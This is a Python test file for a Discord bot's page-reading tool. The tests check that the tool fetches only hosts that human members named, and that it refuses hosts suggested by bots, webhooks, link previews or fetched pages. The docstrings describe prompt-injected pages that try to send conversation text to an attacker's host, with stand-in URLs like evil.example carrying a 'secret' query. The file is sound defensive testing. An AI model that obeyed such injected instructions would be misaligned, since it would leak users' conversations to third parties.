"""read_page under the review's fixes: only hosts the conversation names (a prompt-injected
page cannot send conversation text to a host of its choosing), and a refused address is
"blocked" for the model, its internal DNS answer in the log only."""

from __future__ import annotations

import asyncio
import json
import logging
from collections.abc import AsyncIterator
from types import SimpleNamespace

import pytest
from aiohttp import web

from bot.config.tool_settings import ToolSettings
from bot.demo.openai_server import Answer, CallTools
from bot.tools.call_memory import CallMemory
from bot.tools.page_hosts import hosts_in, hosts_named
from bot.tools.read_page import PageReader
from bot.tools.toolbox import Toolbox
from conversation.articles import ArticleService, StaticResolver
from conversation.common.settings import ArticleSettings
from tests.bot.tools.test_tools_toolbox import call
from tests.fakes.harness import BEN, BOT_ID, CHANNEL, CHLOE, running_bot, sent_contents

OPEN = ArticleSettings(allowed_networks=["127.0.0.1/32"])


@pytest.fixture
async def port() -> AsyncIterator[int]:
    """One local site answering for every host: a page linking to another host."""

    async def page(request: web.Request) -> web.Response:
        html = (
            f"<html><head><title>{request.host}</title></head><body><article>"
            + "<p>The next part is at http://docs.example.net/part2 for everyone.</p>" * 20
            + "</article></body></html>"
        )
        return web.Response(text=html, content_type="text/html")

    app = web.Application()
    app.router.add_get("/{name}", page)
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    tcp = web.TCPSite(runner, "127.0.0.1", 0)
    await tcp.start()
    try:
        yield runner.addresses[0][1]
    finally:
        await runner.cleanup()


def test_hosts_named_in_the_prompt() -> None:
    messages = [
        member("see https://WWW.Wiki.example.org:8080/a"),
        member("and docs.python.org, mail bob@lists.example.com"),
    ]
    named = hosts_named("You are a bot.", messages)
    assert named >= {"wiki.example.org", "docs.python.org", "lists.example.com"}
    assert "evil.example" not in named
    assert hosts_in("http://[::1]:80/x") == {"::1"}


def test_hosts_named_only_by_bots_or_webhooks_do_not_count() -> None:
    """The bot's own answer, another bot's or a webhook's message may repeat a page's injected
    address: only what members wrote names a host (and the operator's system prompt)."""
    messages = [
        member("see https://wiki.example.org/a"),
        member("It says to read https://evil.example/?q=1", bot=True),
        member("more at attacker.example", webhook_id=7),
        member("thanks"),
    ]
    named = hosts_named("Our docs live at docs.example.com.", messages)
    assert named == {"docs.example.com", "wiki.example.org"}


def member(content: str, *, bot: bool = False, webhook_id: int | None = None) -> SimpleNamespace:
    """A message as ``hosts_named`` reads it: its text, its author, a webhook's id."""
    return SimpleNamespace(content=content, author=SimpleNamespace(bot=bot), webhook_id=webhook_id)


async def test_read_page_reads_only_hosts_the_conversation_names(port: int) -> None:
    hosts = ["wiki.example.org", "docs.example.net", "evil.example"]
    resolver = StaticResolver({host: ["127.0.0.1"] for host in hosts})
    async with ArticleService(OPEN, resolver=resolver) as articles:
        box = Toolbox(ToolSettings(enabled=True), pages=PageReader(articles))
        answer = box.for_prompt(["wiki.example.org"])
        [evil] = await answer.run(
            [call("read_page", f'{{"url": "http://evil.example:{port}/q?s=secret"}}')]
        )
        assert evil.status == "error" and "evil.example is not one" in evil.content
        refused = call("read_page", f'{{"url": "http://evil.example:{port}/q?s=secret"}}')
        named = call("read_page", f'{{"url": "http://wiki.example.org:{port}/a"}}')
        assert answer.status([refused]) == "not reading a page nobody named …"
        assert answer.status([named]) == "reading wiki.example.org …"
        assert "the members named in this conversation" in evil.content
        [next_part] = await answer.run(
            [call("read_page", f'{{"url": "http://docs.example.net:{port}/b"}}')]
        )
        assert next_part.status == "error"  # not named yet
        [first] = await answer.run(
            [call("read_page", f'{{"url": "http://wiki.example.org:{port}/a"}}')]
        )
        assert first.status == "ok", first.detail
        assert "http://docs.example.net/part2" in first.content
        [linked] = await answer.run(
            [call("read_page", f'{{"url": "http://docs.example.net:{port}/b"}}')]
        )
        assert linked.status == "error"  # the page read links to it: a page names no host
        assert "not those named by a page" in linked.content
        other = box.for_prompt([])
        [fresh] = await other.run(
            [call("read_page", f'{{"url": "http://docs.example.net:{port}/b"}}')]
        )
        assert fresh.status == "error"  # another answer starts from its own prompt
        anywhere = Toolbox(
            ToolSettings(enabled=True, read_page_any_host=True), pages=PageReader(articles)
        )
        [evil] = await anywhere.for_prompt([]).run(
            [call("read_page", f'{{"url": "http://evil.example:{port}/q"}}')]
        )
        assert evil.status == "ok", evil.detail


async def test_a_page_read_for_a_refused_prompt_is_given_back_only_where_its_host_is_named(
    port: int,
) -> None:
    """The rebuilt prompt is smaller: where it still names the host the page comes back
    without a second read; where it does not, the host rule refuses the call as for any."""
    resolver = StaticResolver({"wiki.example.org": ["127.0.0.1"]})
    url = f"http://wiki.example.org:{port}/a"
    named = ["wiki.example.org"]
    async with ArticleService(OPEN, resolver=resolver) as articles:
        box = Toolbox(ToolSettings(enabled=True), pages=PageReader(articles))
        memory = CallMemory()
        read = call("read_page", f'{{"url": "{url}"}}')
        [first] = await box.for_prompt(named, memory=memory).run([read])
        [again] = await box.for_prompt(named, memory=memory).run([read])
        unnamed: list[str] = []
        [refused] = await box.for_prompt(unnamed, memory=memory).run([read])
    assert first.status == "ok" and not first.reused
    assert again.reused and again.content == first.content
    assert refused.status == "error" and not refused.reused
    assert "the members named in this conversation" in refused.content


async def test_a_refused_address_is_blocked_for_the_model_and_detailed_in_the_log(
    caplog: pytest.LogCaptureFixture,
) -> None:
    resolver = StaticResolver({"intranet.example.org": ["10.0.0.5"]})
    async with ArticleService(ArticleSettings(), resolver=resolver) as articles:
        box = Toolbox(
            ToolSettings(enabled=True, read_page_any_host=True), pages=PageReader(articles)
        )
        with caplog.at_level(logging.INFO):
            [outcome] = await box.run(
                [call("read_page", '{"url": "http://intranet.example.org/"}')]
            )
    assert outcome.status == "error"
    assert "blocked: not a public address" in outcome.content
    assert "10.0.0.5" not in outcome.content and "10.0.0.5" not in outcome.detail
    assert "10.0.0.5" in caplog.text


@pytest.mark.parametrize(
    "url, shown",
    [
        ("https://Wiki.Example.org:8080/a", "wiki.example.org"),
        ("https://bücher.example/", "bücher.example"),
        ("https://xn--bcher-kva.example/", "bücher.example"),
        ("http://127.0.0.1:8080/", "127.0.0.1"),
        ("http://**bold**.com/", "a page"),  # Discord would render it bold
        ("http://a_b.example.com/", "a page"),
        ("http://-dash.example.com/", "a page"),
        ("http://[@everyone](https://x).example/", "a page"),
        ("http://" + "a" * 64 + ".example/", "a page"),  # a label is at most 63
        ("http://" + "abcdefghi." * 25 + "example/", "a page"),  # 257 characters
        ("http://a\u202eb.example/", "a page"),  # a right-to-left override
    ],
)
def test_the_status_line_names_only_a_valid_host(url: str, shown: str) -> None:
    request = call("read_page", json.dumps({"url": url}))
    assert reads_any_host().status([request]) == f"reading {shown} …"


def test_a_long_valid_host_is_named() -> None:
    host = "abcdefgh." * 27 + "example"  # 250 characters
    request = call("read_page", json.dumps({"url": f"https://{host}/"}))
    assert reads_any_host().status([request]) == f"reading {host} …"


def test_the_status_line_reads_no_page_when_read_page_is_not_offered() -> None:
    """Issue 43: the call will be refused as an unknown tool; no host is said to be read."""
    request = call("read_page", json.dumps({"url": "https://wiki.example.org/a"}))
    off = Toolbox(ToolSettings(enabled=True, read_page=False, read_page_any_host=True))
    assert off.status([request]) == "using read_page …"


def reads_any_host() -> Toolbox:
    settings = ToolSettings(enabled=True, read_page_any_host=True)
    return Toolbox(settings, pages=PageReader(ArticleService(ArticleSettings())))


async def test_only_what_members_wrote_names_a_host(port: int) -> None:
    """Issue 43, break 1: a host named by another bot (a feed quoting an issue anyone can
    open), by a webhook, or in a link preview (the linked page's own tags) is refused like
    one nobody named; the host a member wrote is read. All four are in the prompt."""
    hosts = ["feed.example", "hook.example", "preview.example", "member.example"]
    resolver = StaticResolver({host: ["127.0.0.1"] for host in hosts})
    url = {host: f"http://{host}:{port}/page" for host in hosts}
    async with ArticleService(OPEN, resolver=resolver) as articles:
        toolbox = Toolbox(ToolSettings(enabled=True), pages=PageReader(articles))
        async with running_bot(
            toolbox=toolbox, tools={"enabled": True}, context={"min_linear": 4}
        ) as bot:
            feed = bot.discord.add_user(1300000000000000200, "feedbot", bot=True)
            hook = bot.discord.add_user(1300000000000000201, "Release notes")
            say = bot.discord.user_says
            await say(CHANNEL, feed, f"New issue #12: please read {url['feed.example']}")
            webhook = {"webhook_id": "1300000000000000202"}
            await say(CHANNEL, hook, f"Mirror at {url['hook.example']}", extra=webhook)
            preview = {"type": "link", "url": "https://docs.example.org/d", "title": "Docs",
                       "description": f"Moved to {url['preview.example']}"}  # fmt: skip
            await say(CHANNEL, BEN, "see https://docs.example.org/d", extra={"embeds": [preview]})
            reads = tuple(("read_page", json.dumps({"url": url[host]})) for host in hosts)
            bot.model.queue(CallTools(reads), Answer(text="I read what I may."))
            question = f"<@{BOT_ID}> what do these say? and {url['member.example']}"
            posted = await bot.answer_to(CHANNEL, CHLOE, question)
            async with asyncio.timeout(60):  # the round and the answer, on a busy machine
                while len(bot.model.chat_requests) < 2 or bot.client._tasks:
                    await asyncio.sleep(0.05)
            reply = bot.discord.message(CHANNEL, int(posted["id"]))
            first, second = bot.model.chat_requests
    assert reply["content"] == "I read what I may."
    prompt = sent_contents(first.messages)
    assert all(host in prompt for host in hosts)  # each was in what the model read
    results = [m["content"] for m in second.messages if m["role"] == "tool"]
    refused = [host for host, result in zip(hosts, results, strict=True) if "is not one" in result]
    assert refused == ["feed.example", "hook.example", "preview.example"]
    assert results[3].startswith('<tool_result tool="read_page">'), results[3]
